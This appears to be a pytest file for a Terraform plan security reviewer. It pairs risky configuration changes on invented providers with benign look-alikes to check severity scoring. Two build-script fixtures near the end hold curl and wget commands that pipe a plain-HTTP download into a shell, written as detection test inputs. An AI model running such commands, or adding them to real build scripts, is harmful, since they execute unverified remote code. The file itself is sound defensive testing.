"""The long tail of provider vocabularies read by meaning (vocabulary/widened.py, storage.py, transport.py,
schemas.py; cors.py, rootward.py, foreign.py's service-shaped policies; request tokens in credential_names.py):
each risky change on an invented provider beside a benign look-alike that stays likely safe."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.helpers import review_rules_alone, worst_by_rule
from tfreview.labels import Label
from tfreview.pipeline.findings import Severity


def entry(address: str, before: Any, after: Any) -> dict[str, Any]:
    """One resource change by an invented provider."""
    kind, name = address.split(".")
    actions = ["create"] if before is None else ["update"]
    return {"address": address, "mode": "managed", "type": kind, "name": name,
            "provider_name": "registry.terraform.io/acme/acme",
            "change": {"actions": actions, "before": before, "after": after, "after_unknown": {},
                       "after_sensitive": {}}}


def judged(tmp_path: Path, *changes: dict[str, Any]) -> tuple[Label, dict[str, Severity]]:
    tmp_path.mkdir(exist_ok=True)
    result = review_rules_alone(tmp_path, list(changes))
    return result.label, worst_by_rule(result)


# (resource, attribute, risky before → after, benign before → after, rule)
CASES = [
    ("nimbus_volume.finance", "snapshot_policy", ("default", "none"), ("none", "hourly"), "backup-reduced"),
    ("nimbus_sync_task.archive", "options", ([{"preserve_deleted_files": "PRESERVE"}],
                                             [{"preserve_deleted_files": "REMOVE"}]),
     ([{"preserve_deleted_files": "REMOVE"}], [{"preserve_deleted_files": "PRESERVE"}]), "backup-reduced"),
    ("nimbus_series_table.metrics", "retention", ([{"cold_store_retention_period_in_days": 3650}],
                                                  [{"cold_store_retention_period_in_days": 1}]),
     ([{"cold_store_retention_period_in_days": 3650}], [{"cold_store_retention_period_in_days": 730}]),
     "backup-reduced"),
    ("nimbus_ledger.registry", "permissions_mode", ("STANDARD", "ALLOW_ALL"), ("ALLOW_ALL", "STANDARD"),
     "auth-weakened"),
    ("nimbus_snapshot_block_public_access.region", "state", ("block-all-sharing", "unblocked"),
     ("block-new-sharing", "block-all-sharing"), "public-access"),
    ("nimbus_devbox_config.std", "host", ([{"instance": [{"disable_public_ip_addresses": True}]}],
                                          [{"instance": [{"disable_public_ip_addresses": False}]}]),
     ([{"instance": [{"disable_public_ip_addresses": False}]}],
      [{"instance": [{"disable_public_ip_addresses": True}]}]), "public-access"),
    ("nimbus_gateway_named_value.erp", "secret", (True, False), (False, True), "variable-unmasked"),
    ("nimbus_edge_route.app", "forwarding_protocol", ("HttpsOnly", "HttpOnly"), ("MatchRequest", "HttpsOnly"),
     "tls-downgrade"),
    ("nimbus_dashboard_workspace.ops", "network_access_control",
     ([{"prefix_list_ids": ["pl-1"], "endpoint_ids": ["ep-1"]}], []),
     ([], [{"prefix_list_ids": ["pl-1"], "endpoint_ids": ["ep-1"]}]), "public-access"),
    ("nimbus_file_server.partners", "structured_log_destinations", (["arn:nimbus:logs:grp/partners"], []),
     (["arn:nimbus:logs:grp/partners"], ["arn:nimbus:logs:grp/partners-v2"]), "logging-disabled"),
    ("nimbus_cache_user.reader", "access_string", ("on ~orders:* -@all +@read", "on ~* &* +@all"),
     ("on ~orders:* -@all +@read", "on ~orders:* ~refunds:* -@all +@read"), "iam-wildcard"),
    ("nimbus_firewall_policy.egress", "stateless_default_actions", (["nimbus:forward_to_inspection"],
                                                                    ["nimbus:pass"]),
     (["nimbus:pass"], ["nimbus:forward_to_inspection"]), "detection-disabled"),
]


@pytest.mark.parametrize(("address", "attribute", "risky", "benign", "rule"), CASES, ids=[c[0] for c in CASES])
def test_weakened_value_is_high_and_look_alike_stays_safe(tmp_path: Path, address: str, attribute: str,
                                                          risky: tuple[Any, Any], benign: tuple[Any, Any],
                                                          rule: str) -> None:
    label, worst = judged(tmp_path / "risky", *_make(address, attribute, risky))
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get(rule) is Severity.HIGH
    label, worst = judged(tmp_path / "benign", *_make(address, attribute, benign))
    assert label is Label.LIKELY_SAFE and worst.get(rule) is not Severity.HIGH


def _make(address: str, attribute: str, values: tuple[Any, Any]) -> list[dict[str, Any]]:
    before, after = values
    return [entry(address, {"name": "x", attribute: before}, {"name": "x", attribute: after})]


def test_a_short_retention_cut_that_stays_long_is_only_medium(tmp_path: Path) -> None:
    _label, worst = judged(tmp_path, entry("nimbus_series_table.t", {"retention_period_in_days": 365},
                                           {"retention_period_in_days": 30}))
    assert worst.get("backup-reduced") is Severity.MEDIUM


def cors(origins: list[str], credentials: bool) -> dict[str, Any]:
    return {"name": "fhir", "cors": [{"allowed_origins": origins, "credentials_allowed": credentials}]}


def test_cors_any_origin_with_credentials_is_high(tmp_path: Path) -> None:
    label, worst = judged(tmp_path, entry("nimbus_health_api.prod", cors(["https://portal.example.com"], True),
                                          cors(["*"], True)))
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("cors-any-origin") is Severity.HIGH


def test_cors_any_origin_without_credentials_stays_safe(tmp_path: Path) -> None:
    label, worst = judged(tmp_path, entry("nimbus_health_api.prod", cors(["https://portal.example.com"], False),
                                          cors(["*"], False)))
    assert label is Label.LIKELY_SAFE and "cors-any-origin" not in worst


def home(target: str) -> dict[str, Any]:
    return {"name": "partner", "home_directory_mappings": [{"entry": "/", "target": target}]}


def test_home_root_moved_up_to_the_whole_bucket_is_high(tmp_path: Path) -> None:
    label, worst = judged(tmp_path, entry("nimbus_sftp_user.partner", home("/inbound/partner-a"), home("/inbound")))
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("root-widened") is Severity.HIGH


@pytest.mark.parametrize("after", ["/inbound/partner-a/drop", "/inbound/partner-b"])
def test_home_root_narrowed_or_moved_sideways_stays_safe(tmp_path: Path, after: str) -> None:
    label, worst = judged(tmp_path, entry("nimbus_sftp_user.partner", home("/inbound/partner-a"), home(after)))
    assert label is Label.LIKELY_SAFE and "root-widened" not in worst


def policy(*principals: str) -> str:
    return json.dumps([{"Rules": [{"ResourceType": "index", "Resource": ["index/search/*"],
                                   "Permission": ["svc:ReadDocument"]}], "Principal": list(principals)}])


OWN_ROLE = "arn:aws:iam::111122223333:role/search-api"


def access_policy(tmp_path: Path, added: str) -> tuple[Label, dict[str, Severity]]:
    before, after = {"name": "rag", "policy": policy(OWN_ROLE)}, {"name": "rag", "policy": policy(OWN_ROLE, added)}
    return judged(tmp_path, entry("nimbus_search_access_policy.rag", before, after))


def test_service_policy_granting_another_account_is_high(tmp_path: Path) -> None:
    label, worst = access_policy(tmp_path, "arn:aws:iam::999988887777:root")
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("foreign-data-share") is Severity.HIGH


def test_service_policy_adding_a_role_of_its_own_account_stays_safe(tmp_path: Path) -> None:
    label, worst = access_policy(tmp_path, "arn:aws:iam::111122223333:role/eval")
    assert label is Label.LIKELY_SAFE and "foreign-data-share" not in worst


def test_an_optimistic_locking_token_is_no_credential(tmp_path: Path) -> None:
    token = "7c1e2f9a-0b3d-4c5e-8f6a-1b2c3d4e5f60"
    label, worst = judged(tmp_path, entry("nimbus_firewall_rule_group.east", {"name": "e", "update_token": "a1b2"},
                                          {"name": "e", "update_token": token}))
    assert label is Label.LIKELY_SAFE and "credential-in-plan" not in worst


def test_an_auth_token_in_the_clear_is_still_a_credential(tmp_path: Path) -> None:
    _label, worst = judged(tmp_path, entry("nimbus_webhook.ci", {"name": "c", "auth_token": "a1b2"},
                                           {"name": "c", "auth_token": "7c1e2f9a0b3d4c5e8f6a1b2c3d4e5f60Zq"}))
    assert worst.get("credential-in-plan") is Severity.HIGH


# --- a sensitive "true"/"false" masks no copies: a literal word carries no secret, and its copies are every switch
def flag_parameter(before: str, after: str) -> dict[str, Any]:
    """A feature flag whose value its provider marks sensitive on every entry (an SSM parameter's `value`)."""
    flag = entry("nimbus_parameter.flag", {"name": "checkout", "value": before}, {"name": "checkout", "value": after})
    flag["change"]["before_sensitive"] = flag["change"]["after_sensitive"] = {"value": True}
    return flag


def network_document(public: bool) -> str:
    return json.dumps([{"Rules": [{"ResourceType": "collection", "Resource": ["collection/logs"]}],
                        "AllowFromPublic": public, **({} if public else {"SourceVPCEs": ["vpce-1"]})}])


def test_a_document_opened_to_the_public_beside_a_sensitive_flag_is_high(tmp_path: Path) -> None:
    opened = entry("nimbus_search_network_policy.logs", {"policy": network_document(False)},
                   {"policy": network_document(True)})
    label, worst = judged(tmp_path, flag_parameter("false", "true"), opened)
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("public-access") is Severity.HIGH


def test_a_plain_public_switch_beside_a_sensitive_true_is_high(tmp_path: Path) -> None:
    opened = entry("nimbus_db_instance.ledger", {"name": "l", "publicly_accessible": "false"},
                   {"name": "l", "publicly_accessible": "true"})
    label, worst = judged(tmp_path, flag_parameter("TRUE", "false"), opened)
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("public-access") is Severity.HIGH


def test_a_document_that_stays_private_beside_a_sensitive_flag_stays_safe(tmp_path: Path) -> None:
    kept = entry("nimbus_search_network_policy.logs", {"policy": network_document(False)},
                 {"policy": network_document(False).replace('"vpce-1"', '"vpce-1", "vpce-2"')})
    label, worst = judged(tmp_path, flag_parameter("false", "true"), kept)
    assert label is Label.LIKELY_SAFE and "public-access" not in worst


def test_a_sensitive_word_that_is_a_real_secret_is_still_masked_everywhere(tmp_path: Path) -> None:
    from tfreview.pipeline.mask import mask_document

    plan = {"resource_changes": [flag_parameter("old-Pa55word", "Pa55word-new"),
                                 entry("nimbus_note.n", None, {"text": "uses Pa55word-new here"})]}
    mask_document(plan)
    assert "Pa55word-new" not in json.dumps(plan)


# --- an audit trail's read/write selector, abbreviated `rw`, narrowed to reads -----------------------------------
@pytest.mark.parametrize(("address", "attribute"), [("nimbus_actiontrail.org", "event_rw"),
                                                     ("nimbus_audit_trail.org", "rw_type")])
def test_a_trail_narrowed_to_reads_is_high(tmp_path: Path, address: str, attribute: str) -> None:
    label, worst = judged(tmp_path, entry(address, {attribute: "All"}, {attribute: "Read"}))
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("detection-disabled") is Severity.HIGH


def test_a_trail_widened_to_all_events_stays_safe(tmp_path: Path) -> None:
    label, worst = judged(tmp_path, entry("nimbus_actiontrail.org", {"event_rw": "Write"}, {"event_rw": "All"}))
    assert label is Label.LIKELY_SAFE and "detection-disabled" not in worst


# --- a credential put into the code: a service (not a secret store) created with a literal credential, or whose
# credential was empty or a store reference before, is high; a literal rotated to another stays medium
def literal_secret(tmp_path: Path, address: str, attribute: str, before: Any, after: Any,
                   expression: Any) -> tuple[Label, dict[str, Severity]]:
    kind, name = address.split(".")
    change = entry(address, None if before is None else {"name": name, attribute: before},
                   {"name": name, attribute: after})
    change["change"]["after_sensitive"] = {attribute: True}
    change["change"]["before_sensitive"] = {attribute: True} if before is not None else False
    configuration = {"root_module": {"resources": [{"address": address, "mode": "managed", "type": kind,
                                                    "name": name, "expressions": {attribute: expression}}]}}
    tmp_path.mkdir(exist_ok=True)
    result = review_rules_alone(tmp_path, [change], configuration=configuration)
    return result.label, worst_by_rule(result)


PASSWORD = "Wq7#mZ2!pLx9vR4t"


def test_a_service_created_with_a_literal_admin_password_is_high(tmp_path: Path) -> None:
    label, worst = literal_secret(tmp_path, "nimbus_warehouse.analytics", "admin_password", None, PASSWORD,
                                  {"constant_value": PASSWORD})
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("secret-in-code") is Severity.HIGH


def test_a_connector_token_replacing_a_store_reference_is_high(tmp_path: Path) -> None:
    before = [{"credentials": [{"oauth": [{"access_token": "", "credentials_arn": "arn:nimbus:secrets:crm"}]}]}]
    after = [{"credentials": [{"oauth": [{"access_token": "00Dq8!AQ4Fk2Jq7tKv9mWn3pLx8ZrB1", "credentials_arn": ""}]}]}]
    nested = [{"credentials": [{"oauth": [{"access_token": {"constant_value": after[0]["credentials"][0]["oauth"][0]
                                                            ["access_token"]}}]}]}]
    label, worst = literal_secret(tmp_path, "nimbus_connector_profile.crm", "profile_config", before, after, nested)
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("secret-in-code") is Severity.HIGH


def test_an_app_secret_block_given_a_literal_value_is_high(tmp_path: Path) -> None:
    after = [{"name": "stripe", "value": "sk_q8ZfAcmeInvented7Kx2mP9"}]
    label, worst = literal_secret(tmp_path, "nimbus_container_app.checkout", "secret", [], after,
                                  {"constant_value": after})
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("secret-in-code") is Severity.HIGH


def test_an_app_secret_block_reading_a_vault_reference_stays_safe(tmp_path: Path) -> None:
    after = [{"name": "stripe", "vault_secret_id": "https://kv.example.net/secrets/stripe", "value": None}]
    label, worst = literal_secret(tmp_path, "nimbus_container_app.checkout", "secret", [], after,
                                  {"constant_value": after})
    assert label is Label.LIKELY_SAFE and "secret-in-code" not in worst


def test_a_literal_password_rotated_to_another_stays_medium(tmp_path: Path) -> None:
    label, worst = literal_secret(tmp_path, "nimbus_forwarder.siem", "hec_token", "Old7#mZ2!pLx9vR4t", PASSWORD,
                                  {"constant_value": PASSWORD})
    assert label is Label.LIKELY_SAFE and worst.get("secret-in-code") is Severity.MEDIUM


def test_a_literal_password_written_into_a_new_secret_store_is_high(tmp_path: Path) -> None:
    label, worst = literal_secret(tmp_path, "nimbus_vault_secret.db", "value", None, PASSWORD,
                                  {"constant_value": PASSWORD})
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("secret-in-code") is Severity.HIGH


def test_a_literal_password_rotated_in_a_secret_store_stays_medium(tmp_path: Path) -> None:
    label, worst = literal_secret(tmp_path, "nimbus_vault_secret.db", "value", "Old7#mZ2!pLx9vR4t", PASSWORD,
                                  {"constant_value": PASSWORD})
    assert label is Label.LIKELY_SAFE and worst.get("secret-in-code") is Severity.MEDIUM


# --- principals exempted from audit logging: on a new audit configuration as on a changed one --------------------
def audit_config(exempted: list[str]) -> dict[str, Any]:
    return {"service": "allServices", "audit_log_config": [{"log_type": "ADMIN_READ", "exempted_members": []},
                                                           {"log_type": "DATA_WRITE", "exempted_members": exempted}]}


@pytest.mark.parametrize(("address", "member"), [
    ("nimbus_project_audit_config.all", "serviceAccount:deployer@acme-prod.iam.example.com"),
    ("nimbus_org_auditing_policy.main", "user:ops-helper@acme.io"),
])
def test_a_new_audit_configuration_exempting_a_principal_is_high(tmp_path: Path, address: str, member: str) -> None:
    label, worst = judged(tmp_path, entry(address, None, audit_config([member])))
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("logging-disabled") is Severity.HIGH


def test_a_new_audit_configuration_without_exemptions_stays_safe(tmp_path: Path) -> None:
    label, worst = judged(tmp_path, entry("nimbus_project_audit_config.all", None, audit_config([])))
    assert label is Label.LIKELY_SAFE and "logging-disabled" not in worst


# --- a deleted build definition holds no data: medium; the stores its builds fill stay high ----------------------
def deleted(address: str, before: dict[str, Any]) -> dict[str, Any]:
    change = entry(address, before, None)
    change["change"]["actions"] = ["delete"]
    return change


@pytest.mark.parametrize("address", ["nimbus_codebuild_project.legacy", "nimbus_build_trigger.nightly",
                                     "acme_devops_build_definition.ui"])
def test_a_deleted_build_definition_is_medium(tmp_path: Path, address: str) -> None:
    label, worst = judged(tmp_path, deleted(address, {"name": "legacy", "description": "ui build"}))
    assert label is Label.LIKELY_SAFE and worst.get("resource-delete") is Severity.MEDIUM


@pytest.mark.parametrize("address", ["nimbus_build_artifacts_bucket.main", "nimbus_codebuild_report_group.tests"])
def test_a_deleted_store_of_builds_stays_high(tmp_path: Path, address: str) -> None:
    label, worst = judged(tmp_path, deleted(address, {"name": "builds"}))
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("resource-delete") is Severity.HIGH


# --- a build's own script piping a plain-HTTP download into a shell, like a boot script -------------------------
def build_project(attribute: str, script: str) -> dict[str, Any]:
    return {"name": "orders", "source": [{"type": "CODEPIPELINE", attribute: script}]}


SPEC = "version: 0.2\nphases:\n  build:\n    commands:\n      - npm ci\n      - npm test\n"


@pytest.mark.parametrize(("address", "attribute", "line"), [
    ("nimbus_codebuild_project.orders", "buildspec", "      - curl -fsSL http://get.tools.net/setup.sh | bash\n"),
    ("acme_pipeline_step.deploy", "deploy_script", "wget -qO- http://203.0.113.7/install | sh\n"),
])
def test_a_build_script_piping_a_plain_download_into_a_shell_is_high(tmp_path: Path, address: str, attribute: str,
                                                                     line: str) -> None:
    label, worst = judged(tmp_path, entry(address, build_project(attribute, SPEC),
                                          build_project(attribute, SPEC + line)))
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("boot-script-weakens") is Severity.HIGH


def test_a_build_script_adding_an_audit_step_stays_safe(tmp_path: Path) -> None:
    safer = SPEC.replace("npm ci", "npm ci --ignore-scripts\n      - npm audit --audit-level=high")
    label, worst = judged(tmp_path, entry("nimbus_codebuild_project.orders", build_project("buildspec", SPEC),
                                          build_project("buildspec", safer)))
    assert label is Label.LIKELY_SAFE and "boot-script-weakens" not in worst


# --- a whole-bucket retention policy is judged by the age at which it deletes, not by its transitions or the
# cleanup of unfinished uploads
def lifecycle(rule: dict[str, Any]) -> dict[str, Any]:
    return {"bucket": "audit-archive", "rule": [{"id": "r", "status": "Enabled", "filter": [{"prefix": ""}], **rule}]}


TIERING = {"transition": [{"days": 90, "storage_class": "GLACIER"}],
           "abort_incomplete_multipart_upload": [{"days_after_initiation": 7}]}


@pytest.mark.parametrize("address", ["nimbus_bucket_lifecycle_configuration.audit", "acme_storage_lifecycle.audit"])
def test_a_whole_bucket_kept_for_years_with_tiering_is_a_retention_policy(tmp_path: Path, address: str) -> None:
    label, worst = judged(tmp_path, entry(address, None, lifecycle({**TIERING, "expiration": [{"days": 2555}]})))
    assert label is Label.LIKELY_SAFE and worst.get("lifecycle-expiration") is Severity.MEDIUM


def test_a_whole_bucket_expired_within_a_day_stays_high_beside_tiering(tmp_path: Path) -> None:
    label, worst = judged(tmp_path, entry("nimbus_bucket_lifecycle_configuration.audit", None,
                                          lifecycle({**TIERING, "expiration": [{"days": 1}]})))
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("lifecycle-expiration") is Severity.HIGH


# --- a workload's run-as identity moved to the project's default one, in blocks nested at any depth --------------
DEDICATED = "ws-backend@acme-prod-3341.iam.gserviceaccount.com"
DEFAULT = "918273645501-compute@developer.gserviceaccount.com"


def nested_identity(key: str, account: str) -> dict[str, Any]:
    return {"name": "backend", "host": [{"instance": [{"machine_type": "e2-standard-8", key: account,
                                                      "scopes": ["https://www.googleapis.com/auth/cloud-platform"]}]}]}


@pytest.mark.parametrize(("address", "key"), [("nimbus_workstation_config.backend", "service_account"),
                                              ("acme_notebook_runtime.lab", "service_account_email")])
def test_a_nested_identity_moved_to_the_default_account_is_high(tmp_path: Path, address: str, key: str) -> None:
    label, worst = judged(tmp_path, entry(address, nested_identity(key, DEDICATED), nested_identity(key, DEFAULT)))
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("iam-privileged-role") is Severity.HIGH


def test_a_nested_identity_moved_to_another_dedicated_account_stays_safe(tmp_path: Path) -> None:
    other = "ws-backend-v2@acme-prod-3341.iam.gserviceaccount.com"
    label, worst = judged(tmp_path, entry("nimbus_workstation_config.backend", nested_identity("service_account",
                                                                                               DEDICATED),
                                          nested_identity("service_account", other)))
    assert label is Label.LIKELY_SAFE and "iam-privileged-role" not in worst


# --- a bearer link (pre-authenticated, presigned) that reaches every object of a bucket --------------------------
def test_a_new_bearer_link_writing_any_object_is_high(tmp_path: Path) -> None:
    link = {"bucket": "finance-exports", "access_type": "AnyObjectReadWrite", "time_expires": "2031-01-01T00:00:00Z"}
    label, worst = judged(tmp_path, entry("nimbus_objectstorage_preauthrequest.share", None, link))
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("public-access") is Severity.HIGH


def test_a_bearer_link_widened_from_one_object_to_the_bucket_is_high(tmp_path: Path) -> None:
    before = {"bucket": "exports", "object_name": "r.pdf", "access_type": "ObjectRead"}
    after = {"bucket": "exports", "object_name": None, "access_type": "AnyObjectRead"}
    label, worst = judged(tmp_path, entry("acme_presigned_link.auditor", before, after))
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("public-access") is Severity.HIGH


def test_a_new_bearer_link_reading_one_object_stays_safe(tmp_path: Path) -> None:
    link = {"bucket": "finance-exports", "object_name": "reports/pnl.pdf", "access_type": "ObjectRead"}
    label, worst = judged(tmp_path, entry("nimbus_objectstorage_preauthrequest.share", None, link))
    assert label is Label.LIKELY_SAFE and "public-access" not in worst
